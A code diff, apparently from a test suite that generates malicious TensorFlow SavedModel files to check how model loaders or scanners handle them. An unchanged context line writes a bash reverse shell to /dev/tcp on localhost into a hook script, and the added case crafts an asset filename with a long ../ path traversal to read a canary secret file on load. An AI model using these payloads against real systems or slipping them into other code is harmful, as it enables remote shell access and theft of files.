@@ -6,7 +6,7 @@ import os
 
 import tensorflow as tf
 
-from .build import STRING, by_hand, dense, export, node, patch, scratch
+from .build import STRING, by_hand, dense, export, export_v1, node, patch, scratch
 from .registry import Place, attack, fires
 
 
@@ -195,3 +195,31 @@ def _(place: Place):
     script = place.path / "variables" / "hook.sh"
     script.write_text("#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/18431 0>&1\n")
     script.chmod(0o755)
+
+
+@attack(
+    "sm-asset-collection",
+    "savedmodel",
+    "path-traversal",
+    ["asset"],
+    "secret.txt",
+    also=["file-read"],
+    trigger="load",
+    fires=fires("load-cpp", "opens", "secret.txt"),
+)
+def _(place: Place):
+    """A TF1 model lists its assets in a collection, not in asset_file_def; the name there climbs out."""
+    from tensorflow.core.protobuf import meta_graph_pb2
+
+    from .benign_tf1 import _estimator
+
+    export_v1(place.path, lambda: _estimator(place))
+
+    def edit(model):
+        held = model.meta_graphs[0].collection_def["saved_model_assets"].any_list.value[0]
+        asset = meta_graph_pb2.AssetFileDef()
+        held.Unpack(asset)
+        asset.filename = f"../../../../../../../../../..{place.canary}/secret.txt"
+        held.Pack(asset)
+
+    patch(place.path, edit)
